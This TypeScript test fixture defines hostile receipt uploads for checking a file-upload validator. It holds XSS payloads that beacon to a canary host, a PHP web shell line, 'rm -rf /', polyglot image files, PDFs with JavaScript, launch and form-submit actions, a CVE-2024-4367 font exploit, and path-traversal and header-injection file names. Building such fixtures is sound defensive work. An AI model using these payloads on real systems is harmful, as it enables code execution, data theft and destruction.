/*
 * Malicious files sent as receipts (R2, R4), each with a description, its bytes and its declared type. If a browser ran
 * one of them, it would run ATTACK.
 */
import { gzipSync } from 'node:zlib'
import { picture } from '../../scripts/receipt-upload.ts'
import {
  RECEIPT_HEIC,
  RECEIPT_TOO_MANY_PIXELS,
  RECEIPT_UNREADABLE,
  type ReceiptType,
} from '../../shared/receipt.ts'
import { pdf, pdfObjects, pdfStream } from './pdf.ts'
import { jpeg, jpegSegment, png, pngChunk } from './pictures.ts'

export type HostileFile = [what: string, bytes: Buffer, type: ReceiptType]
type RefusedFile = [...HostileFile, message?: string]

/** An address that only these files contain: a request to it proves that a file ran. */
export const CANARY = 'http://canary.example/'
const ATTACK = `window.__pwned=1;alert(1);new Image().src='${CANARY}'`
export const HOSTILE_HTML = `<!doctype html><script>${ATTACK}</script><img src=x onerror="${ATTACK}">`

const text = (content: string) => Buffer.from(content)
const HTML = text(HOSTILE_HTML)
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="${ATTACK}"/>`
const PHP = '<?php system($_GET["c"]); ?>'
const ZIP = Buffer.from('504b0304140000000000', 'hex')
const JAR = Buffer.concat([ZIP, text('META-INF/MANIFEST.MF')])
const JAVASCRIPT_ACTION = `<< /S /JavaScript /JS (app.alert\\(1\\);app.launchURL\\('${CANARY}'\\)) >>`
const HOSTILE_PDF = pdf(pdfObjects({ catalogue: `/OpenAction ${JAVASCRIPT_ACTION}` }))

/** The beginning of a photo as iPhones store it. */
export const HEIC = Buffer.from('0000001c6674797068656963000000006d696631', 'hex')

export const REFUSED_FILES: RefusedFile[] = [
  ['HTML as PNG', HTML, 'image/png'],
  ['HTML as JPEG', HTML, 'image/jpeg'],
  ['HTML as PDF', HTML, 'application/pdf'],
  ['HTML behind white space', text(`\n\n   ${HTML}`), 'image/png'],
  ['HTML behind a BOM', text(`\uFEFF${HTML}`), 'image/png'],
  ['HTML in UTF-16', Buffer.from(HOSTILE_HTML, 'utf16le'), 'image/png'],
  ['SVG as PNG', text(SVG), 'image/png'],
  ['SVG with an XML head', text(`<?xml version="1.0"?>${SVG}`), 'image/jpeg'],
  ['SVG, compressed', gzipSync(SVG), 'image/png'],
  ['a script', text('#!/bin/sh\nrm -rf /\n'), 'application/pdf'],
  ['JavaScript', text(ATTACK), 'image/png'],
  ['PHP', text(PHP), 'image/jpeg'],
  ['a GIF', text('GIF89a\x01\x00\x01\x00'), 'image/png'],
  ['a GIF that is JavaScript', text(`GIF89a/*\x00*/=1;${ATTACK}`), 'image/jpeg'],
  [
    'a GIF that is a Java archive',
    Buffer.concat([text('GIF89a\x01\x00\x01\x00'), JAR]),
    'image/png',
  ],
  ['a BMP', text('BM'.padEnd(60, '\x00')), 'image/png'],
  ['a WebP', text('RIFF\x24\x00\x00\x00WEBPVP8 '.padEnd(60, '\x00')), 'image/png'],
  ['a HEIC', HEIC, 'image/jpeg', RECEIPT_HEIC],
  ['a TIFF', Buffer.from('49492a0008000000', 'hex'), 'image/jpeg'],
  ['a zip', ZIP, 'application/pdf'],
  ['an office document', Buffer.concat([ZIP, text('word/document.xml')]), 'application/pdf'],
  ['a Windows program', text('MZ'.padEnd(80, '\x00')), 'image/png'],
  ['a Linux program', Buffer.from('7f454c4602010100', 'hex'), 'image/png'],
  ['an empty-looking file', Buffer.alloc(100), 'image/png'],
  ['one byte', Buffer.from([0x89]), 'image/png'],
  ['the first half of a signature', Buffer.from([0x89, 0x50, 0x4e]), 'image/png'],
  ['a PNG called JPEG', png(2, 2), 'image/jpeg'],
  ['a JPEG called PNG', jpeg(), 'image/png'],
  ['a PDF called PNG', HOSTILE_PDF, 'image/png'],
  ['a PNG called PDF', png(2, 2), 'application/pdf'],
  ['a PDF behind other bytes', Buffer.concat([Buffer.alloc(1024), HOSTILE_PDF]), 'application/pdf'],
  [
    'a PNG of four billion by four billion',
    pngOf(0xffffffff, 0xffffffff),
    'image/png',
    RECEIPT_TOO_MANY_PIXELS,
  ],
  ['a PNG of 50 megapixels and a row', png(10_000, 5_001), 'image/png', RECEIPT_TOO_MANY_PIXELS],
  [
    'a JPEG of 50 megapixels and a row',
    jpeg([], 10_000, 5_001),
    'image/jpeg',
    RECEIPT_TOO_MANY_PIXELS,
  ],
  ['a PNG of no height', pngOf(100, 0), 'image/png', RECEIPT_UNREADABLE],
  ['a PNG that is its signature', png(2, 2).subarray(0, 8), 'image/png', RECEIPT_UNREADABLE],
  ['a JPEG of three bytes', jpeg().subarray(0, 3), 'image/jpeg', RECEIPT_UNREADABLE],
  ['a JPEG cut off after its head', jpeg().subarray(0, 12), 'image/jpeg', RECEIPT_UNREADABLE],
  [
    // The bytes of slash and asterisk are the length of its first segment.
    'a JPEG that is JavaScript, too',
    Buffer.concat([
      Buffer.from('ffd8ffe0', 'hex'),
      text(`/*JFIF\0${' '.repeat(0x2f2a - 10)}*/=1;${ATTACK}/*`),
    ]),
    'image/jpeg',
    RECEIPT_UNREADABLE,
  ],
]

export const STORED_FILES: HostileFile[] = [
  ['a PNG that ends in HTML', Buffer.concat([png(2, 2), HTML]), 'image/png'],
  [
    'a PNG with HTML in its text',
    png(2, 2, [pngChunk('tEXt', text(`Comment\0${HOSTILE_HTML}`))]),
    'image/png',
  ],
  [
    'a PNG with SVG in its metadata',
    png(2, 2, [pngChunk('iTXt', text(`XML:com.adobe.xmp\0\0\0\0\0${SVG}`))]),
    'image/png',
  ],
  ['a PNG with PHP in its text', png(2, 2, [pngChunk('tEXt', text(`x\0${PHP}`))]), 'image/png'],
  ['a PNG that is a zip, too', Buffer.concat([png(2, 2), ZIP]), 'image/png'],
  ['a PNG cut off in the middle', picture(300).subarray(0, 120), 'image/png'],
  ['a PNG of 50 megapixels in its header', pngOf(10_000, 5_000), 'image/png'],
  ['a PNG of 50 megapixels in 50 kB', png(10_000, 5_000), 'image/png'],
  ['a JPEG that ends in HTML', Buffer.concat([jpeg(), HTML]), 'image/jpeg'],
  ['a JPEG that is a Java archive, too (GIFAR)', Buffer.concat([jpeg(), JAR]), 'image/jpeg'],
  ['a JPEG with a script in its comment', jpeg([jpegSegment(0xfe, HTML)]), 'image/jpeg'],
  [
    'a JPEG with HTML where its camera belongs',
    jpeg([jpegSegment(0xe1, text(`Exif\0\0${HOSTILE_HTML}`))]),
    'image/jpeg',
  ],
  ['a PDF that runs JavaScript when it opens', HOSTILE_PDF, 'application/pdf'],
  [
    'a PDF that runs JavaScript by name, and on its page',
    pdf(
      pdfObjects({
        catalogue: `/Names << /JavaScript << /Names [(a) ${JAVASCRIPT_ACTION}] >> >>`,
        page: `/AA << /O ${JAVASCRIPT_ACTION} >>`,
      }),
    ),
    'application/pdf',
  ],
  [
    'a PDF that opens an address',
    pdf(pdfObjects({ catalogue: `/OpenAction << /S /URI /URI (${CANARY}) >>` })),
    'application/pdf',
  ],
  [
    'a PDF that links to a script',
    pdf(
      pdfObjects({
        page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 298 420]
          /A << /S /URI /URI (javascript:${ATTACK.replace(/[()]/g, '\\$&')}) >> >>]`,
      }),
    ),
    'application/pdf',
  ],
  [
    'a PDF that starts a program',
    pdf(pdfObjects({ catalogue: '/OpenAction << /S /Launch /F (cmd.exe) >>' })),
    'application/pdf',
  ],
  [
    'a PDF that sends a form',
    pdf(
      pdfObjects({
        catalogue: `/OpenAction << /S /SubmitForm /F << /FS /URL /F (${CANARY}) >> >>`,
      }),
    ),
    'application/pdf',
  ],
  [
    'a PDF with a form in XML, with a script',
    pdf(
      pdfObjects({ catalogue: '/AcroForm << /Fields [] /XFA 4 0 R >>' }, [
        pdfStream(
          `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>${ATTACK}</script></xdp:xdp>`,
        ),
      ]),
    ),
    'application/pdf',
  ],
  ['a PDF with a script in its font (CVE-2024-4367)', pdfWithHostileFont(), 'application/pdf'],
  ['a PDF that carries a web page', pdfThatCarries(HOSTILE_HTML), 'application/pdf'],
  ['a PDF whose pages are each other', pdfInCircles(), 'application/pdf'],
  ['a PDF that is HTML, too', Buffer.concat([HOSTILE_PDF, HTML]), 'application/pdf'],
  ['a PDF with nothing in it', text('%PDF-1.4\n'), 'application/pdf'],
  ['a PDF behind line breaks', Buffer.concat([text('\r\n\n'), HOSTILE_PDF]), 'application/pdf'],
  ['a PDF behind HTML', Buffer.concat([HTML, HOSTILE_PDF]), 'application/pdf'],
]

export const HOSTILE_NAMES = [
  'factura.pdf.exe',
  'recibo.png.html',
  '../../../../etc/passwd',
  '..\\..\\windows\\system32\\drivers\\etc\\hosts',
  '/etc/shadow',
  'a'.repeat(300),
  `${'ñ'.repeat(200)}.png`,
  '🎁🎉🧉.png',
  '.htaccess',
  '..',
  'con',
  'a\u0000b.png',
  'a\r\nSet-Cookie: session=x.png',
  '"; filename="evil.html',
  `<img src=x onerror="${ATTACK}">.png`,
  '\u202Egnp.exe',
]

/** A PNG that is only a header with this size. */
function pngOf(width: number, height: number): Buffer {
  const bytes = picture(200)
  bytes.writeUInt32BE(width, 16)
  bytes.writeUInt32BE(height, 20)
  return bytes
}

/** Old versions of pdf.js compiled the text in the matrix to a function. */
function pdfWithHostileFont(): Buffer {
  const matrix = `[0.1 0 0 0.1 0 (1\\);${ATTACK.replace(/[()]/g, '\\$&')}//)]`
  const font = `/Type /Font /Subtype /Type1 /BaseFont /Evil /FontMatrix ${matrix}`
  return pdf(
    pdfObjects({ page: '/Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R' }, [
      `<< ${font} /FirstChar 97 /LastChar 97 /Widths [500] >>`,
      pdfStream('BT /F1 24 Tf 20 200 Td (a) Tj ET'),
    ]),
  )
}

function pdfThatCarries(page: string): Buffer {
  const names = '/Names << /EmbeddedFiles << /Names [(x.html) 4 0 R] >> >>'
  return pdf(
    pdfObjects({ catalogue: names }, [
      '<< /Type /Filespec /F (x.html) /EF << /F 5 0 R >> >>',
      pdfStream(page, '/Type /EmbeddedFile /Subtype /text#2Fhtml'),
    ]),
  )
}

function pdfInCircles(): Buffer {
  return pdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1000000 >>',
    '<< /Type /Pages /Kids [2 0 R] /Parent 2 0 R /Count 1000000 >>',
  ])
}
